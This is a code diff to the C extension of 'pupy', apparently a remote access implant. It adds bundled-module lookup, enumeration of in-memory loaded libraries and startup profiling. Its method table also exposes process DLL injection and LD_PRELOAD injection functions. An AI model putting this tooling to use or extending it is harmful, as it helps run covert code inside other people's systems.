@@ -10,6 +10,9 @@
 #include "debug.h"
 #include "Python-dynload.h"
 #include "daemonize.h"
+#include "library.h"
+#include "tmplibrary.h"
+#include "profile.h"
 
 int linux_inject_main(int argc, char **argv);
 
@@ -19,9 +22,75 @@ extern const char resources_library_compressed_string_txt_start[];
 extern const int resources_library_compressed_string_txt_size;
 char pupy_config[40960]="####---PUPY_CONFIG_COMES_HERE---####\n"; //big array to have space for more config / code run at startup
 extern const uint32_t dwPupyArch;
-static PyObject *Py_get_compressed_library_string(PyObject *self, PyObject *args)
+static PyObject *Py_get_library_names(PyObject *self, PyObject *args)
 {
-	return Py_BuildValue("s#", resources_library_compressed_string_txt_start, resources_library_compressed_string_txt_size);
+	unsigned int i, count = library_count();
+	PyObject *names = PyList_New(count);
+	if (!names)
+		return NULL;
+
+	for (i=0; i<count; i++) {
+		library_entry_t entry;
+		if (!library_get(i, &entry)) {
+			Py_DECREF(names);
+			PyErr_SetString(PyExc_ImportError, "corrupted library archive");
+			return NULL;
+		}
+
+		PyList_SetItem(names, i, Py_BuildValue("s#", entry.name, entry.name_size));
+	}
+
+	return names;
+}
+
+static PyObject *Py_find_library_module(PyObject *self, PyObject *args)
+{
+	const char *fullname;
+	unsigned int indexes[8];
+	unsigned int i, found;
+
+	if (!PyArg_ParseTuple(args, "s", &fullname))
+		return NULL;
+
+	found = library_lookup(fullname, indexes, sizeof(indexes)/sizeof(indexes[0]));
+
+	PyObject *files = PyList_New(found);
+	if (!files)
+		return NULL;
+
+	for (i=0; i<found; i++) {
+		library_entry_t entry;
+		library_get(indexes[i], &entry);
+		PyList_SetItem(files, i, Py_BuildValue("s#", entry.name, entry.name_size));
+	}
+
+	return files;
+}
+
+static PyObject *Py_get_library_module(PyObject *self, PyObject *args)
+{
+	const char *name;
+	library_entry_t entry;
+
+	if (!PyArg_ParseTuple(args, "s", &name))
+		return NULL;
+
+	if (!library_find(name, &entry)) {
+		Py_INCREF(Py_None);
+		return Py_None;
+	}
+
+	PyObject *content = PyString_FromStringAndSize(NULL, entry.usize);
+	if (!content)
+		return NULL;
+
+	if (!library_inflate(&entry, PyString_AsString(content))) {
+		Py_DECREF(content);
+		PyErr_Format(PyExc_ImportError, "Couldn't inflate %s", name);
+		return NULL;
+	}
+
+	return content;
 }
 
 static PyObject *
@@ -159,18 +228,98 @@ static PyObject *Py_load_dll(PyObject *self, PyObject *args)
 	return PyBool_FromLong(0);
 }
 
+static bool add_loaded_library(
+	const char *name, void *base, size_t size,
+	time_t loaded_at, double load_time, void *data)
+{
+	PyObject *library = Py_BuildValue(
+		"{s:s,s:k,s:k,s:k,s:d}",
+		"name", name,
+		"base", (unsigned long) base,
+		"size", (unsigned long) size,
+		"loaded_at", (unsigned long) loaded_at,
+		"load_time", load_time
+	);
+
+	if (!library)
+		return false;
+
+	PyList_Append((PyObject *) data, library);
+	Py_DECREF(library);
+	return true;
+}
+
+static PyObject *Py_get_loaded_libraries(PyObject *self, PyObject *args)
+{
+	PyObject *libraries = PyList_New(0);
+	if (!libraries)
+		return NULL;
+
+	memdlopen_enumerate(add_loaded_library, libraries);
+
+	if (PyErr_Occurred()) {
+		Py_DECREF(libraries);
+		return NULL;
+	}
+
+	return libraries;
+}
+
+static bool add_startup_phase(
+	const char *name, double started, double duration, void *data)
+{
+	PyObject *phase = Py_BuildValue(
+		"{s:s,s:d,s:d}",
+		"name", name,
+		"started", started,
+		"duration", duration
+	);
+
+	if (!phase)
+		return false;
+
+	PyList_Append((PyObject *) data, phase);
+	Py_DECREF(phase);
+	return true;
+}
+
+static PyObject *Py_get_startup_profile(PyObject *self, PyObject *args)
+{
+	PyObject *profile = PyList_New(0);
+	if (!profile)
+		return NULL;
+
+	profile_enumerate(add_startup_phase, profile);
+
+	if (PyErr_Occurred()) {
+		Py_DECREF(profile);
+		return NULL;
+	}
+
+	return profile;
+}
+
 static PyMethodDef methods[] = {
 	{ "get_pupy_config", Py_get_pupy_config, METH_NOARGS, "get_pupy_config() -> string" },
 	{ "get_arch", Py_get_arch, METH_NOARGS, "get current pupy architecture (x86 or x64)" },
-	{ "_get_compressed_library_string", Py_get_compressed_library_string, METH_VARARGS },
+	{ "get_library_names", Py_get_library_names, METH_NOARGS, "get_library_names() -> list of bundled module paths" },
+	{ "get_library_module", Py_get_library_module, METH_VARARGS, "get_library_module(path) -> string or None" },
+	{ "find_library_module", Py_find_library_module, METH_VARARGS, "find_library_module(fullname) -> list of bundled module paths" },
 	{ "reflective_inject_dll", Py_reflective_inject_dll, METH_VARARGS|METH_KEYWORDS, "reflective_inject_dll(pid, dll_buffer, isRemoteProcess64bits)\nreflectively inject a dll into a process. raise an Exception on failure" },
 	{ "load_dll", Py_load_dll, METH_VARARGS, "load_dll(dllname, raw_dll) -> bool" },
 	{ "ld_preload_inject_dll", Py_ld_preload_inject_dll, METH_VARARGS, "ld_preload_inject_dll(cmdline, dll_buffer, hook_exit) -> pid" },
+	{ "get_loaded_libraries", Py_get_loaded_libraries, METH_NOARGS, "get_loaded_libraries() -> list of libraries loaded from memory" },
+	{ "get_startup_profile", Py_get_startup_profile, METH_NOARGS, "get_startup_profile() -> list of startup phases, duration is -1 while running" },
 	{ NULL, NULL },		/* Sentinel */
 };
 
 DL_EXPORT(void)
 initpupy(void)
 {
+	if (!library_init(resources_library_compressed_string_txt_start,
+					  resources_library_compressed_string_txt_size)) {
+		dprint("Embedded library is not available\n");
+	}
+
 	Py_InitModule3("pupy", methods, module_doc);
 }